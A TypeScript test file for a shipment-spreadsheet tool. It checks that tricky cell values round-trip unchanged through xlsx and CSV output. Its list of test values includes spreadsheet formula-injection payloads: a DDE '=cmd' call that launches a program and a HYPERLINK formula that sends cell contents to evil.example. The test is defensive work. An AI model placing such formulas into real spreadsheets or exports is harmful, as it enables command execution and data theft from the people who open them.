import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { ColumnName, ShipmentLine } from "../../src/domain/shipment-line.ts";
import { readSheets } from "../../src/sheet/read-sheets.ts";
import { escapeCellText } from "../../src/sheet/result-cell-text.ts";
import { writeResult } from "../../src/sheet/result-file.ts";
import { isGuarded, unguardCell } from "../../src/sheet/result-guard.ts";
import { buildResultModel } from "../../src/sheet/result-model.ts";
import { castDice } from "../torture/dice.ts";
import type { Dice } from "../torture/dice.ts";
import { buildSample, makeAnswer } from "./result-samples.ts";
import { makeTempDir, writeBook, writeTemp } from "./temp-sheets.ts";

/** Cells that a spreadsheet, a CSV or a terminal would like to make something else of. */
const NASTY = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+491234567",
  "-5",
  "@SUM(A1)",
  "'",
  "''",
  "'=1",
  "''=1",
  "'0042",
  '="0042"',
  '="=1"',
  "\t=1",
  "\u3000",
  "＝1+1",
  "＠x",
  '"',
  '""',
  '"quoted"',
  'say "hi"',
  '12" ruler',
  "a,b;c|d",
  "a\tb",
  "two\nlines",
  'a "quote\nand, a break"',
  '"starts with a quote\nand breaks',
  "cr\rlf\r\nend",
  "  spaces  ",
  "\u00A0nbsp\u00A0",
  "zero\u200Bwidth",
  "\u202Edesrever",
  "\u001B[31mred\u001B[0m",
  "bell\u0007",
  "nul\u0000",
  "\u007F\u0085",
  "\uFFFD \uFFFE \uFFFF",
  "_x0041_",
  "_x005F_x0041_",
  "_x000D_",
  "&amp; <b> ]]> <!-- -->",
  "</t></is></c>",
  "00000000000017",
  "9400111206206406260787",
  "1e5",
  "1.10",
  "TRUE",
  "#N/A",
  "2026-03-04",
  "3/4",
  "__proto__",
  "constructor",
  "emoji 👩‍👩‍👧 and 注文番号",
  "x".repeat(32_767),
] as const;
const COLUMNS = ["order-id", "tracking-number", "carrier-name", "ship-method", "sku"] as const;

/** A workbook with each value in every column, and in one that means nothing to us. */
async function writeInput(values: readonly string[]): Promise<string> {
  return writeBook((book) => {
    const sheet = book.addWorksheet("Ship");
    sheet.addRow([...COLUMNS, "Notes"]);
    for (const value of values) {
      const text = escapeCellText(value);
      sheet.addRow(["A-1", "1Z999AA10310000018", text, text, text, text]);
    }
    for (const value of values.filter((text) => text.length < 100)) {
      sheet.addRow([escapeCellText(value), escapeCellText(value), "", "", "", "note"]);
    }
  });
}

async function readAsResult(
  input: string,
  kind: string,
): Promise<[ShipmentLine[], ShipmentLine[]]> {
  const { tables, lines } = await readSheets([input]);
  const answers = lines.map((_, index) => makeAnswer(index));
  const { summary } = buildSample([]);
  const model = buildResultModel({ runId: "r", tables, lines, answers, packages: [], summary });
  const path = join(makeTempDir(), `out.${kind}`);
  await writeResult(path, model);
  return [[...lines], [...(await readSheets([path])).lines]];
}

const meaning = (line: ShipmentLine): (string | undefined)[] =>
  COLUMNS.map((column: ColumnName) => line.cells[column]);
const texts = (line: ShipmentLine): string[] =>
  line.row.cells
    .slice(0, COLUMNS.length + 1)
    .map((text) => (isGuarded(line.row.table) ? unguardCell(text) : text));

/** The same as CSV, where no value is one that a stray quotation mark could have made. */
function writeCsvInput(values: readonly string[]): string {
  const quote = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const rows = values
    .filter((value) => !/\0|"[^]*[\r\n]|[\r\n][^]*"/u.test(value))
    .map((value) => ["A-1", "1Z999AA10310000018", value, value, value, value].map(quote).join(","));
  return writeTemp("in.csv", [[...COLUMNS, "Notes"].join(","), ...rows, ""].join("\r\n"));
}

describe.each(["xlsx", "csv"])("a result in %s", (kind) => {
  it("gives every nasty value back as it was", async () => {
    const [before, after] = await readAsResult(await writeInput(NASTY), kind);
    expect(after).toHaveLength(before.length);
    for (const [index, line] of before.entries()) {
      expect(meaning(after[index] ?? line)).toEqual(meaning(line));
      expect(after[index] && texts(after[index])).toEqual(texts(line));
    }
  });

  it("gives every nasty value of a text file back as it was", async () => {
    const [before, after] = await readAsResult(writeCsvInput(NASTY), kind);
    expect(before.length).toBeGreaterThan(45);
    expect(after.map(meaning)).toEqual(before.map(meaning));
    expect(after.map(texts)).toEqual(before.map(texts));
  });

  it("gives any text back as it was", async () => {
    const dice = castDice("round trip");
    const starts = ["", "=", "'", "'=", '"', "-", "\n", " "] as const;
    const values = Array.from({ length: 150 }, () => {
      const points = Array.from({ length: dice.between(0, 12) }, () => pickCodePoint(dice));
      return dice.pick(starts) + String.fromCodePoint(...points);
    });
    const [before, after] = await readAsResult(await writeInput(values), kind);
    expect(after.map(meaning)).toEqual(before.map(meaning));
    expect(after.map(texts)).toEqual(before.map(texts));
  });
});

/** Mostly ASCII and Latin, sometimes from anywhere; half characters stand in no file. */
function pickCodePoint(dice: Dice): number {
  const highest = dice.pick([0x7f, 0x7f, 0xff, 0x2fff, 0xffff, 0x10ffff]);
  const point = dice.between(1, highest);
  return point >= 0xd800 && point <= 0xdfff ? 0x2d : point;
}
